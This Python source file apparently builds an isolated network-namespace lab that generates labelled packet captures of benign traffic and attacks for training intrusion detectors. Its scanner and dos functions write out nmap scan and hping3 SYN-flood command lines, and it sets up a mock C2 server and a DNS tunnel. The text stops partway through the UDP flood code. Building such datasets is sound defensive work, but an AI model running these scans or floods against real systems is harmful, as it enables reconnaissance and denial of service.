#!/usr/bin/env python3
"""Tidewatch lab corpus: real tools in network namespaces, labelled by their own record.

    python3 pcaps/lab/lab.py run   --seed N --out DIR [--duration S] [--prefix P] [--scenario attack|everyday|heldout]
    python3 pcaps/lab/lab.py label --pcap F --actions F.actions.jsonl --out-stem DIR/lab-seedN

`run` (root) builds a small lab: one namespace holding a bridge (`br0`, the
"switch"; tcpdump captures there) and one namespace per host, each with a veth
into the bridge and one private address of a per-seed /24. No host has a
default route and the root namespace has no interface on the lab, so nothing
leaves. Servers (nginx HTTP+HTTPS, dnsmasq, OpenSSH, vsftpd, a C2 nginx) and
clients/attackers (curl, wget, dig, ssh/scp, openssl, nmap, hping3,
slowhttptest, ab, hydra) are Debian's binaries. Every client or attacker step
is an *action* in DIR/lab-seedN.actions.jsonl: label, tool, variant, source
address, target addresses, wall-clock window.

After the capture, `label` splits the packets into flows (the engine's flow
key: 5-tuple; ICMP echo by identifier, other ICMP by type/code) and gives each
flow the label of the action whose source host, targets and time window it
matches (initiator = action source, or the reverse for answers such as ICMP
errors). Labels never come from traffic statistics. Flows matching no action,
or actions of different labels, stay unlabelled (counted in the summary).

Outputs: lab-seedN.pcap, lab-seedN.labels.csv (first_ts,last_ts,proto,src_ip,
src_port,dst_ip,dst_port,label -- the columns of pcaps/generate.py),
lab-seedN.flows.csv (the same plus tool,variant,action), lab-seedN.summary.json.
The seed varies addresses, which host plays which role, service ports, timing,
tool options, word lists and payloads.

`--scenario everyday` (outputs lab-everyday-seedN.*) is benign only, to measure
false alarms on ordinary traffic: curl loops at 1/s and sparse curl, a large
rate-limited wget, dig loops and sparse A/AAAA/MX/TXT/NXDOMAIN queries, ping and
ping6 (also link-local), rdisc6, chronyd polling and one-shot (-Q) against a
chronyd server, udhcpc against dnsmasq's DHCP, avahi-daemon announcing and
avahi-browse browsing (mDNS), SSDP M-SEARCH (Python: Debian has no command-line
SSDP client), a monitoring poller (nc -z, dig, curl -I), interactive ssh on a
pty, scp and rsync, and one TLS connection kept alive with a request every 10 s
(openssl s_client). Every link has IPv6 (link-local + a ULA /64 per seed) and
comes up under capture, so RS, DAD, ND and MLD are in it, labelled by
`kernel/ipv6-linkup` and `kernel/ipv6-nd-mld-rs` actions. Each activity runs on
its own client host (a few may share one when their targets never meet), so
each flow finds its variant.

`--scenario heldout` (outputs lab-heldout-seedN.*, its own random stream and a
10/8 /24) makes the attack classes with tools the attack scenario never uses,
to test a model on tools it did not see: masscan (TCP and UDP, 500-3000
packets/s, one target per run: it is given --adapter-ip and --router-mac, the
target's MAC), nping TCP/UDP port sweeps and `nc -z` (scan); nping SYN/UDP/ICMP
floods, scapy SYN/UDP floods, siege and wrk GET floods (dos); medusa, ncrack and
patator against SSH and FTP with bounded lists (bruteforce); dns2tcp (through
the resolver or direct to dns2tcpd on c2srv) and a Python TXT/NULL tunnel under
its own domain, answered by a Python server on c2srv:5353 (exfil); wget and
Python urllib HTTP(S) beacons, openssl s_client and ncat --ssl check-ins every
5-30 s with 0-50 % jitter (c2). The servers, benign clients (4 hosts), capture,
action log and labeller are the attack scenario's; each attacking tool has its
own host, so every flow finds its tool; tool names differ from the attack
scenario's (`python-dns`, `python-urllib`, ...). flows.csv and actions.jsonl
have the attack scenario's columns and fields.
"""
from __future__ import annotations

import argparse
import base64
import collections
import csv
import json
import os
import random
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.join(REPO, "python"))
from tidewatch_tools import flowkey, pcapio  # noqa: E402

WORDS = ("alpha bravo cedar delta ember falcon garnet harbor indigo juniper kestrel lumen maple nova "
         "orchid pepper quartz raven sierra tango umber velvet willow xenon yarrow zephyr amber "
         "basil cobalt dune echo fjord glade haze iris jade kelp lotus mist nectar opal pine "
         "quill reef sage thistle ursa vale wren").split()

# --------------------------------------------------------------------------- helpers


def log(msg: str) -> None:
    print(f"[lab {time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


def sh(*cmd, check=True, quiet=True, **kw):
    return subprocess.run(list(map(str, cmd)), check=check,
                          stdout=subprocess.DEVNULL if quiet else None,
                          stderr=subprocess.DEVNULL if quiet else None, **kw)


class Lab:
    def __init__(self, seed: int, out: str, duration: float, prefix: str):
        self.seed = seed
        self.rng = random.Random(seed)
        self.out = os.path.abspath(out)
        self.duration = duration
        self.prefix = prefix
        self.stem = os.path.join(self.out, f"lab-seed{seed}")
        self.run = os.path.join(self.out, f"run-seed{seed}")
        self.procs: list[subprocess.Popen] = []
        self.namespaces: list[str] = []
        self.actions: list[dict] = []
        self.alock = threading.Lock()
        self.stop = threading.Event()
        self.t_end = 0.0
        self.errors: collections.Counter = collections.Counter()
        self.c2_udp_ports = [53]   # the attacker's DNS server(s) on c2srv

    # ---------------------------------------------------------------- processes
    def ns(self, role: str) -> str:
        return f"{self.prefix}{role}"

    def popen(self, role: str, cmd, **kw) -> subprocess.Popen:
        p = subprocess.Popen(["ip", "netns", "exec", self.ns(role)] + list(map(str, cmd)),
                             stdin=kw.pop("stdin", subprocess.DEVNULL),
                             stdout=kw.pop("stdout", subprocess.DEVNULL),
                             stderr=kw.pop("stderr", subprocess.DEVNULL),
                             cwd=kw.pop("cwd", self.run), start_new_session=True, **kw)
        self.procs.append(p)
        return p

    def run_in(self, role: str, cmd, timeout: float, stdin_data: bytes | None = None) -> int:
        """Run a client command in a host namespace, bounded in time."""
        left = self.t_end - time.time()
        timeout = max(1.0, min(timeout, left + 3))
        p = self.popen(role, cmd, stdin=subprocess.PIPE if stdin_data is not None else subprocess.DEVNULL)
        try:
            if stdin_data is not None:
                try:
                    p.stdin.write(stdin_data)
                    p.stdin.close()
                except OSError:
                    pass
            return p.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            self.kill(p)
            return -1
        finally:
            try:
                self.procs.remove(p)
            except ValueError:
                pass

    @staticmethod
    def kill(p: subprocess.Popen, sig=signal.SIGTERM) -> None:
        try:
            os.killpg(p.pid, sig)
        except (ProcessLookupError, PermissionError):
            pass
        try:
            p.wait(timeout=3)
        except subprocess.TimeoutExpired:
            try:
                os.killpg(p.pid, signal.SIGKILL)
            except (ProcessLookupError, PermissionError):
                pass
            p.wait(timeout=3)

    def action(self, label, tool, variant, role, targets, t0, t1, **extra):
        a = {"id": len(self.actions), "label": label, "tool": tool, "variant": variant,
             "host": role, "src": self.ip[role], "targets": sorted({self.ip.get(t, t) for t in targets}),
             "t0": round(t0, 6), "t1": None if t1 is None else round(t1, 6), **extra}
        with self.alock:
            a["id"] = len(self.actions)
            self.actions.append(a)
        return a

    def act(self, label, tool, variant, role, targets, cmd, timeout, stdin_data=None, **extra):
        # Recorded before it runs (t1 = None while running), so an action still running when
        # the capture stops keeps its flows: its window then ends at the capture's end.
        t0 = time.time()
        if label != "benign" and "args" not in extra:
            extra["args"] = " ".join(map(str, cmd[1:]))
        a = self.action(label, tool, variant, role, targets, t0, None, **extra)
        rc = self.run_in(role, cmd, timeout, stdin_data)
        a["t1"], a["rc"] = round(time.time(), 6), rc
        return rc

    def sleep(self, s: float) -> bool:
        """Sleep unless the run is over; False when it is."""
        return not self.stop.wait(max(0.0, min(s, self.t_end - time.time())))

    def live(self) -> bool:
        return not self.stop.is_set() and time.time() < self.t_end

    # ---------------------------------------------------------------- topology
    def plan(self):
        r = self.rng
        base = r.choice([f"10.{r.randrange(256)}.{r.randrange(256)}",
                         f"172.{r.randrange(16, 32)}.{r.randrange(256)}",
                         f"192.168.{r.randrange(256)}"])
        self.place(base, clients=6, attackers=["scanner", "dos", "brute", "exfil", "implant"])

    def place(self, base: str, clients: int, attackers: list[str]) -> None:
        """Addresses in `base`.0/24 for every role, service ports, keep-alive: the same draws, in the
        same order, for every scenario."""
        r = self.rng
        self.servers = ["web1", "web2", "dns", "ssh", "ftp", "c2srv"]
        self.clients = [f"ben{i}" for i in range(1, clients + 1)]
        self.attackers = attackers
        roles = self.servers + self.clients + self.attackers
        hosts = r.sample(range(2, 254), len(roles))
        self.ip = {role: f"{base}.{h}" for role, h in zip(roles, hosts)}
        self.roles = roles
        self.port = {
            "http": r.choice([80, 80, 8080, 8000]),
            "https": r.choice([443, 443, 8443]),
            "c2http": r.choice([80, 8080, 8888]),
            "c2https": r.choice([443, 8443, 4443]),
            "ssh": r.choice([22, 22, 2222]),
            "ftp": r.choice([21, 21, 2121]),
        }
        self.web_keepalive = r.choice([15, 30, 65])

    def build(self):
        self.namespaces = [self.ns("sw")] + [self.ns(x) for x in self.roles]
        for n in self.namespaces:
            sh("ip", "netns", "add", n)
        for role in self.roles:
            os.makedirs(f"/etc/netns/{self.ns(role)}", exist_ok=True)
            with open(f"/etc/netns/{self.ns(role)}/hosts", "w") as f:
                f.write("127.0.0.1 localhost\n" + "".join(
                    f"{self.ip[k]} {v}\n" for k, v in self.hostname.items()))
        sw = self.ns("sw")
        sh("ip", "-n", sw, "link", "add", "br0", "type", "bridge", "stp_state", "0", "forward_delay", "0")
        sh("ip", "-n", sw, "link", "set", "br0", "up")
        for i, role in enumerate(self.roles):
            n = self.ns(role)
            port = f"p{i}"
            sh("ip", "-n", sw, "link", "add", port, "type", "veth", "peer", "name", "eth0", "netns", n)
            sh("ip", "-n", sw, "link", "set", port, "master", "br0")
            sh("ip", "-n", sw, "link", "set", port, "up")
            for ns_, dev in ((sw, port), (n, "eth0")):
                sh("ip", "netns", "exec", ns_, "ethtool", "-K", dev, "tso", "off", "gso", "off",
                   "gro", "off", check=False)
            sh("ip", "netns", "exec", n, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1", check=False)
            sh("ip", "netns", "exec", n, "sysctl", "-qw", "net.ipv6.conf.default.disable_ipv6=1", check=False)
            sh("ip", "-n", n, "addr", "add", f"{self.ip[role]}/24", "dev", "eth0")
            sh("ip", "-n", n, "link", "set", "eth0", "up")
            sh("ip", "-n", n, "link", "set", "lo", "up")
            # Vary the hosts' stacks a little (ICMP error rate limit, initial TTL).
            sh("ip", "netns", "exec", n, "sysctl", "-qw",
               f"net.ipv4.icmp_ratelimit={self.rng.choice([0, 100, 1000])}", check=False)
            sh("ip", "netns", "exec", n, "sysctl", "-qw",
               f"net.ipv4.ip_default_ttl={self.rng.choice([64, 64, 128])}", check=False)
            routes = subprocess.run(["ip", "-n", n, "route", "show", "default"],
                                    capture_output=True, text=True).stdout.strip()
            if routes:
                raise RuntimeError(f"{n} has a default route ({routes}); refusing to run")
        sh("ip", "netns", "exec", sw, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1", check=False)
        self.firewall()
        # ARP entries settle before the capture starts.
        for role in self.roles:
            sh("ip", "netns", "exec", self.ns(role), "ping", "-c", "1", "-W", "1",
               self.ip[self.servers[0]], check=False)

    def firewall(self):
        """Some servers drop what is not a service (filtered ports, as behind most firewalls)."""
        services = {
            "web1": ("tcp", [self.port["http"], self.port["https"]]),
            "web2": ("tcp", [self.port["http"], self.port["https"]]),
            "ssh": ("tcp", [self.port["ssh"]]),
            "ftp": ("tcp", [self.port["ftp"], "40000-40999"]),
            "dns": ("udp", [53]),
            "c2srv": ("tcp", [self.port["c2http"], self.port["c2https"]]),
        }
        self.filtered = []
        for role, (proto, ports) in services.items():
            if self.rng.random() >= 0.5:
                continue
            plist = ", ".join(map(str, ports))
            rules = f"""table inet twlab {{
  chain input {{
    type filter hook input priority 0; policy accept;
    ct state established,related accept
    iif lo accept
    meta l4proto icmp accept
    {proto} dport {{ {plist} }} accept
    {"tcp dport 53 accept" if role == "dns" else ""}
    {"udp dport { " + ", ".join(map(str, self.c2_udp_ports)) + " } accept" if role == "c2srv" else ""}
    meta l4proto {{ tcp, udp }} {self.rng.choice(["drop", "drop", "reject"])}
  }}
}}
"""
            p = subprocess.run(["ip", "netns", "exec", self.ns(role), "nft", "-f", "-"], input=rules,
                               text=True, capture_output=True)
            if p.returncode == 0:
                self.filtered.append(role)
            else:
                self.errors[f"nft {role}: {p.stderr.strip()[:200]}"] += 1

    # ---------------------------------------------------------------- content
    def content(self):
        r = self.rng
        os.makedirs(self.run, exist_ok=True)
        d = self.run
        self.docroot = os.path.join(d, "www")
        os.makedirs(os.path.join(self.docroot, "img"), exist_ok=True)
        os.makedirs(os.path.join(self.docroot, "admin"), exist_ok=True)
        os.makedirs(os.path.join(self.docroot, "files"), exist_ok=True)
        n_pages = r.randint(60, 160)
        self.pages = [f"/p/{r.choice(WORDS)}-{i}.html" for i in range(n_pages)]
        os.makedirs(os.path.join(self.docroot, "p"), exist_ok=True)
        self.images = [f"/img/{i}.{r.choice(['png', 'jpg', 'css', 'js'])}" for i in range(r.randint(20, 60))]
        for path in self.images:
            with open(self.docroot + path, "wb") as f:
                f.write(os.urandom(int(r.lognormvariate(9.5, 1.0)) + 200))
        for path in self.pages:
            links = r.sample(self.pages, 5) + r.sample(self.images, 3)
            words = " ".join(r.choice(WORDS) for _ in range(int(r.lognormvariate(6.5, 1.0)) + 20))
            body = ("<html><head><title>%s</title></head><body><p>%s</p>%s</body></html>" % (
                path, words, "".join(f'<a href="{u}">{u}</a> <img src="{u}">' for u in links)))
            with open(self.docroot + path, "w") as f:
                f.write(body)
        with open(os.path.join(self.docroot, "index.html"), "w") as f:
            f.write("<html><body>" + "".join(f'<a href="{u}">{u}</a>\n' for u in self.pages) + "</body></html>")
        with open(os.path.join(self.docroot, "admin", "index.html"), "w") as f:
            f.write("admin area")
        self.bulk = []
        for i in range(2):
            size = r.randint(1, 6) << 20
            path = f"/files/dump{i}.bin"
            with open(self.docroot + path, "wb") as f:
                f.write(os.urandom(size))
            self.bulk.append(path)
        # C2 server: small tasking responses.
        self.c2root = os.path.join(d, "c2www")
        os.makedirs(os.path.join(self.c2root, "api"), exist_ok=True)
        self.c2paths = r.sample(["/api/v1/tasks", "/api/poll", "/jquery.min.js", "/update/check",
                                 "/static/ping.gif", "/news/feed.xml", "/cdn/config.json"], 2)
        for p in self.c2paths:
            os.makedirs(os.path.dirname(self.c2root + p), exist_ok=True)
            with open(self.c2root + p, "wb") as f:
                f.write(base64.b64encode(os.urandom(r.randint(16, 600))))
        # TLS certificate, basic auth.
        key = r.choice([["rsa:2048"], ["ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"]])
        sh("openssl", "req", "-x509", "-newkey", *key, "-nodes", "-days", "30",
           "-subj", f"/CN={r.choice(WORDS)}.{r.choice(['lab', 'corp', 'local'])}",
           "-keyout", f"{d}/tls.key", "-out", f"{d}/tls.crt")
        self.web_user = r.choice(["admin", "webadmin", "operator", "root"])
        self.web_pass = "".join(r.choice("abcdefghijkmnpqrstuvwxyz23456789") for _ in range(10))
        hashed = subprocess.run(["openssl", "passwd", "-apr1", self.web_pass],
                                capture_output=True, text=True, check=True).stdout.strip()
        with open(f"{d}/htpasswd", "w") as f:
            f.write(f"{self.web_user}:{hashed}\n")
        # SSH: host key and a client key for the benign sessions.
        for name in ("ssh_host_ed25519_key", "client_key"):
            sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{d}/{name}")
        shutil.copy(f"{d}/client_key.pub", f"{d}/authorized_keys")
        os.makedirs(f"{d}/sshdata", exist_ok=True)
        self.ssh_files = []
        for i in range(4):
            p = f"{d}/sshdata/f{i}.dat"
            with open(p, "wb") as f:
                f.write(os.urandom(r.randint(8, 1000) << 10))
            self.ssh_files.append(p)
        os.makedirs(f"{d}/upload", exist_ok=True)
        # FTP anonymous root (read-only, owned by root).
        os.makedirs(f"{d}/ftp/pub", exist_ok=True)
        os.makedirs(f"{d}/ftp-empty", exist_ok=True)
        self.ftp_files = []
        for i in range(5):
            with open(f"{d}/ftp/pub/doc{i}.bin", "wb") as f:
                f.write(os.urandom(r.randint(2, 800) << 10))
            self.ftp_files.append(f"/pub/doc{i}.bin")
        for p in (f"{d}/ftp", f"{d}/ftp/pub", f"{d}/ftp-empty"):
            os.chmod(p, 0o755)
        os.chmod(d, 0o755)
        # DNS zone.
        self.zone = r.choice(["corp", "lab", "internal", "office"]) + "." + r.choice(["lan", "test", "example"])
        self.names = {f"www.{self.zone}": self.ip["web1"], f"intranet.{self.zone}": self.ip["web2"],
                      f"files.{self.zone}": self.ip["ftp"], f"git.{self.zone}": self.ip["ssh"]}
        for i in range(r.randint(40, 120)):
            self.names[f"{r.choice(WORDS)}{i}.{self.zone}"] = self.ip[r.choice(self.servers[:5])]
        with open(f"{d}/hosts", "w") as f:
            for n, a in self.names.items():
                f.write(f"{a} {n}\n")
        # Clients use names in a share of their URLs (so TLS carries SNI and HTTP a Host name),
        # from a per-namespace hosts file (`ip netns exec` mounts /etc/netns/NS/hosts): no lookup.
        self.hostname = {"web1": f"www.{self.zone}", "web2": f"intranet.{self.zone}",
                         "c2srv": f"{r.choice(['cdn', 'static', 'api', 'update'])}-{r.choice(WORDS)}."
                                  f"{r.choice(['com', 'net', 'io'])}"}
        self.p_names = r.choice([0.5, 0.8, 1.0])
        self.exfil_domain = f"{r.choice(WORDS)}{r.randint(1, 99)}.{r.choice(['net', 'info', 'io', 'xyz'])}"
        self.tunnel_domain = (f"{r.choice('tdxq')}.{r.choice(WORDS)}{r.randint(100, 999)}."
                              f"{r.choice(['com', 'org', 'cc'])}")
        # Word lists for hydra (the right password is in some lists, not in others).
        self.wordlists = {}
        for svc in ("ssh", "http", "ftp"):
            n = r.randint(60, 400)
            ws = set()
            while len(ws) < n:
                w = r.choice(WORDS) + r.choice(["", str(r.randint(0, 9999)), "!", "123", "2024"])
                ws.add(w if r.random() < 0.7 else w.capitalize())
            ws = sorted(ws)
            r.shuffle(ws)
            if svc == "http" and r.random() < 0.5:
                ws.insert(r.randrange(len(ws)), self.web_pass)
            p = f"{d}/words-{svc}.txt"
            with open(p, "w") as f:
                f.write("\n".join(ws) + "\n")
            self.wordlists[svc] = p

    # ---------------------------------------------------------------- services
    def nginx_conf(self, name, root, http, https, extra=""):
        d = self.run
        tmp = f"{d}/nginx-{name}"
        os.makedirs(tmp, exist_ok=True)
        ip = self.ip[name]
        conf = f"""
worker_processes 1;
daemon off;
pid {tmp}/nginx.pid;
error_log {tmp}/error.log warn;
events {{ worker_connections 4096; }}
http {{
  access_log off;
  client_body_temp_path {tmp}/body; proxy_temp_path {tmp}/proxy; fastcgi_temp_path {tmp}/fcgi;
  uwsgi_temp_path {tmp}/uwsgi; scgi_temp_path {tmp}/scgi;
  default_type application/octet-stream;
  keepalive_timeout {self.web_keepalive};
  server_tokens {self.rng.choice(['on', 'off'])};
  server {{
    listen {ip}:{http};
    listen {ip}:{https} ssl;
    ssl_certificate {d}/tls.crt;
    ssl_certificate_key {d}/tls.key;
    root {root};
    location /admin/ {{ auth_basic "restricted"; auth_basic_user_file {d}/htpasswd; }}
    {extra}
  }}
}}
"""
        path = f"{tmp}/nginx.conf"
        with open(path, "w") as f:
            f.write(conf)
        return path

    def services(self):
        # One piece per server, in this order (the seed's random stream runs through them).
        self.web_services()
        self.dns_service()
        self.tunnel_service()
        self.ssh_service()
        self.ftp_service()
        time.sleep(1.5)

    def web_services(self):
        for name in ("web1", "web2"):
            self.popen(name, ["nginx", "-c",
                              self.nginx_conf(name, self.docroot, self.port["http"], self.port["https"])])
        self.popen("c2srv", ["nginx", "-c", self.nginx_conf(
            "c2srv", self.c2root, self.port["c2http"], self.port["c2https"],
            extra="error_page 405 =200 $uri; location /submit { return 200 'ok'; }")])

    def dns_forwards(self):
        """Domains the resolver forwards (delegates) to the attacker's server: iodine's."""
        return [f"--server=/{self.tunnel_domain}/{self.ip['c2srv']}"]

    def dns_service(self):
        d = self.run
        dns_args = ["dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts", f"--addn-hosts={d}/hosts",
                    f"--listen-address={self.ip['dns']}", "--bind-interfaces", "--except-interface=lo",
                    f"--pid-file={d}/dnsmasq.pid", f"--local=/{self.zone}/", "--cache-size=1000",
                    "--user=root", "--group=root"]
        if self.rng.random() < 0.5:
            dns_args.append(f"--address=/{self.exfil_domain}/{self.ip['c2srv']}")
        else:
            dns_args.append(f"--local=/{self.exfil_domain}/")
        # The tunnel's domain is delegated (forwarded) to the attacker's server.
        dns_args += self.dns_forwards()
        self.popen("dns", dns_args)

    def tunnel_service(self):
        r = self.rng
        net = f"10.{r.randrange(100, 200)}.{r.randrange(256)}"
        self.tunnel_ip = f"{net}.1"
        self.tunnel_pw = "".join(r.choice("abcdefghijkmnpqrstuvwxyz23456789") for _ in range(12))
        self.popen("c2srv", ["iodined", "-f", "-c", "-P", self.tunnel_pw, "-l", self.ip["c2srv"],
                             "-m", str(r.choice([1130, 1200])), f"{net}.1/27", self.tunnel_domain])
        self.popen("c2srv", ["sh", "-c", f"while sleep 0.2; do nc -l -n -s {net}.1 -p 4444 > /dev/null; done"])

    def ssh_service(self):
        d = self.run
        with open(f"{d}/sshd_config", "w") as f:
            f.write(f"""Port {self.port['ssh']}
ListenAddress {self.ip['ssh']}
HostKey {d}/ssh_host_ed25519_key
PidFile {d}/sshd.pid
AuthorizedKeysFile {d}/authorized_keys
StrictModes no
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin prohibit-password
MaxStartups 200:30:400
MaxAuthTries {self.rng.choice([3, 6])}
LoginGraceTime 20
UseDNS no
Subsystem sftp internal-sftp
""")
        os.makedirs("/run/sshd", exist_ok=True)
        self.popen("ssh", ["/usr/sbin/sshd", "-D", "-e", "-f", f"{d}/sshd_config"])

    def ftp_service(self):
        d = self.run
        with open(f"{d}/vsftpd.conf", "w") as f:
            f.write(f"""listen=YES
listen_ipv6=NO
listen_address={self.ip['ftp']}
listen_port={self.port['ftp']}
background=NO
anonymous_enable=YES
no_anon_password=YES
anon_root={d}/ftp
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
secure_chroot_dir={d}/ftp-empty
pasv_enable=YES
pasv_min_port=40000
pasv_max_port=40999
seccomp_sandbox=NO
isolate=NO
isolate_network=NO
xferlog_enable=NO
delay_failed_login={self.rng.choice([0, 1])}
max_login_fails=3
ftp_username=nobody
""")
        self.popen("ftp", ["vsftpd", f"{d}/vsftpd.conf"])

    # ---------------------------------------------------------------- benign
    def url(self, server=None, https=None, path=None):
        r = self.rng_t()
        server = server or r.choice(["web1", "web2"])
        https = r.random() < 0.5 if https is None else https
        path = path or r.choice(self.pages)
        port = self.port["https" if https else "http"]
        host = self.hostname[server] if r.random() < self.p_names else self.ip[server]
        return f"{'https' if https else 'http'}://{host}:{port}{path}"

    def rng_t(self) -> random.Random:
        """Per-thread RNG, derived from the seed and the thread's name."""
        t = threading.current_thread()
        if not hasattr(t, "rng"):
            t.rng = random.Random(f"{self.seed}:{t.name}")
        return t.rng

    def benign_step(self, role, kinds):
        r = self.rng_t()
        kind = r.choices(list(kinds), weights=list(kinds.values()))[0]
        web = ["web1", "web2"]
        ua = r.choice(["Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "Mozilla/5.0 Chrome/126.0",
                       "curl/7.88.1", "Wget/1.21.3"])
        if kind == "browse":
            server = r.choice(web)
            https = r.random() < 0.55
            pages = r.sample(self.pages, r.randint(1, 6)) + r.sample(self.images, r.randint(0, 4))
            if r.random() < 0.6:      # one keep-alive connection, several requests
                cmd = ["curl", "-s", "-k", "-A", ua, "--max-time", "20"]
                for p in pages:
                    cmd += ["-o", "/dev/null", self.url(server, https, p)]
                self.act("benign", "curl", "browse-keepalive", role, [server], cmd, 25)
            else:
                for p in pages:
                    self.act("benign", "curl", "browse", role, [server],
                             ["curl", "-s", "-k", "-A", ua, "--max-time", "15", "-o", "/dev/null",
                              self.url(server, https, p)], 20)
                    if not self.sleep(r.expovariate(2.0)):
                        return
        elif kind == "mirror":
            server = r.choice(web)
            https = r.random() < 0.4
            self.act("benign", "wget", "mirror", role, [server],
                     ["wget", "-q", "-r", "-l", str(r.randint(1, 2)), "-np", "--delete-after",
                      "--no-check-certificate", "-e", "robots=off", "-U", ua,
                      f"--wait={r.choice([0, 0.2, 0.5])}", "--quota=1m", "-P", f"{self.run}/wget-{role}",
                      self.url(server, https, "/index.html")], r.uniform(8, 20))
        elif kind == "dns":
            for _ in range(r.randint(1, 5)):
                name = r.choice(list(self.names)) if r.random() < 0.85 else f"{r.choice(WORDS)}.{self.zone}"
                extra = ["+tcp"] if r.random() < 0.05 else []
                self.act("benign", "dig", "lookup", role, ["dns"],
                         ["dig", f"@{self.ip['dns']}", "+tries=1", "+time=2", *extra,
                          "-t", r.choice(["A", "A", "A", "AAAA", "MX"]), name], 5)
                if not self.sleep(r.expovariate(3.0)):
                    return
        elif kind == "ssh":
            cmd = r.choice(["uptime", "ls -la /usr/bin | head -n 200",
                            f"cat {r.choice(self.ssh_files)} | head -c {r.randint(1000, 400000)}",
                            "ps aux", f"sleep {r.uniform(0.5, 5):.1f}; df -h"])
            self.act("benign", "ssh", "exec", role, ["ssh"], [
                "ssh", "-i", f"{self.run}/client_key", "-p", self.port["ssh"], "-o", "StrictHostKeyChecking=no",
                "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5",
                f"root@{self.ip['ssh']}", cmd], 30)
        elif kind == "scp":
            up = r.random() < 0.4
            src = r.choice(self.ssh_files)
            remote = f"root@{self.ip['ssh']}:"
            args = ([src, remote + f"{self.run}/upload/{role}-{r.randint(0, 1 << 30)}"] if up
                    else [remote + src, "/dev/null"])
            self.act("benign", "scp", "upload" if up else "download", role, ["ssh"], [
                "scp", "-q", "-i", f"{self.run}/client_key", "-P", self.port["ssh"], "-o", "StrictHostKeyChecking=no",
                "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", *args], 40)
        elif kind == "bulk":
            server = r.choice(web)
            self.act("benign", "curl", "bulk", role, [server], [
                "curl", "-s", "-k", "--max-time", "30", "--limit-rate", f"{r.choice([200, 500, 1000, 3000])}k",
                "-o", "/dev/null", self.url(server, r.random() < 0.5, r.choice(self.bulk))], 35)
        elif kind == "ftp":
            path = r.choice(self.ftp_files) if r.random() < 0.8 else "/pub/"
            self.act("benign", "curl", "ftp", role, ["ftp"], [
                "curl", "-s", "--max-time", "30", "-o", "/dev/null",
                f"ftp://{self.ip['ftp']}:{self.port['ftp']}{path}"], 35)
        elif kind == "idle":
            # A long idle keep-alive connection, in the background of this client.
            hold = r.uniform(20, 70)
            if r.random() < 0.5:
                cmd = ["ssh", "-i", f"{self.run}/client_key", "-p", self.port["ssh"], "-o", "StrictHostKeyChecking=no",
                       "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
                       "-o", f"ServerAliveInterval={r.choice([5, 10, 15])}", f"root@{self.ip['ssh']}",
                       f"sleep {hold:.0f}"]
                variant, target = "ssh-idle", "ssh"
            else:
                server = r.choice(web)
                host = self.hostname[server] if r.random() < self.p_names else self.ip[server]
                cmd = ["sh", "-c", f"sleep {hold:.0f} | openssl s_client -quiet -connect "
                       f"{host}:{self.port['https']}"]
                variant, target = "tls-idle", server
            threading.Thread(target=self.act, name=f"{role}-idle-{r.random()}", daemon=True,
                             args=("benign", cmd[0], variant, role, [target], cmd, hold + 10)).start()
        self.sleep(r.expovariate(1 / r.choice([0.5, 1.5, 4.0])))

    def benign_loop(self, role, kinds):
        while self.live():
            try:
                self.benign_step(role, kinds)
            except Exception as e:  # noqa: BLE001 -- a client must not kill the run
                self.errors[f"{role}: {type(e).__name__}: {e}"] += 1
                self.sleep(1)

    # ---------------------------------------------------------------- attacks
    def scanner(self):
        r = self.rng_t()
        targets = [s for s in self.servers]
        variants = ["sS", "sT", "sU", "sV", "slow"]
        r.shuffle(variants)
        for v in variants:
            if not self.sleep(r.uniform(2, 12)):
                return
            tgt = r.sample(targets, r.choice([1, 1, 2]))
            ips = [self.ip[t] for t in tgt]
            base = ["nmap", "-n", "-Pn", "--max-retries", str(r.choice([1, 2])), "--host-timeout", "30s"]
            if r.random() < 0.3:
                base += ["--data-length", str(r.randint(0, 40))]
            if v == "sS":
                cmd = base + ["-sS", f"-T{r.choice([3, 4, 4, 5])}", "--top-ports", str(r.randint(100, 1000))]
            elif v == "sT":
                cmd = base + ["-sT", f"-T{r.choice([3, 4])}", "-p", f"1-{r.randint(200, 2000)}"]
            elif v == "sU":
                cmd = base + ["-sU", "-T4", "--top-ports", str(r.randint(15, 60))]
            elif v == "sV":
                ports = sorted({self.port[k] for k in self.port}
                               | {r.randint(1, 10000) for _ in range(r.randint(20, 60))})
                cmd = base + ["-sV", f"--version-intensity={r.randint(2, 7)}", "-p", ",".join(map(str, ports))]
            else:
                ports = sorted({r.randint(1, 10000) for _ in range(r.randint(30, 70))} | {self.port["ssh"]})
                cmd = base + ["-sS", "--scan-delay", f"{r.randint(200, 500)}ms", "-p", ",".join(map(str, ports))]
                cmd[cmd.index("30s")] = "40s"
            self.act("scan", "nmap", f"nmap-{v}", "scanner", tgt, cmd + ips, 45, args=" ".join(cmd[1:]))

    def dos(self):
        r = self.rng_t()
        variants = ["syn", "udp", "icmp", "slowloris", "getflood"]
        r.shuffle(variants)
        for v in variants:
            if not self.sleep(r.uniform(2, 12)):
                return
            web = r.choice(["web1", "web2"])
            https = r.random() < 0.3
            if v == "syn":
                port = self.port["https" if https else "http"] if r.random() < 0.8 else self.port["ssh"]
                tgt = web if port != self.port["ssh"] else "ssh"
                cmd = ["hping3", "-q", "-S", "-p", port, "-c", r.randint(3000, 12000),
                       "-i", f"u{r.choice([50, 100, 200, 500])}",
                       "-w", r.choice([64, 512, 1024, 65535]), "-d", r.choice([0, 0, 40, 120]), self.ip[tgt]]
                self.act("dos", "hping3", "hping3-syn", "dos", [tgt], cmd, 30)
            elif v == "udp":
                tgt = r.choice(["dns", web, "ftp"])
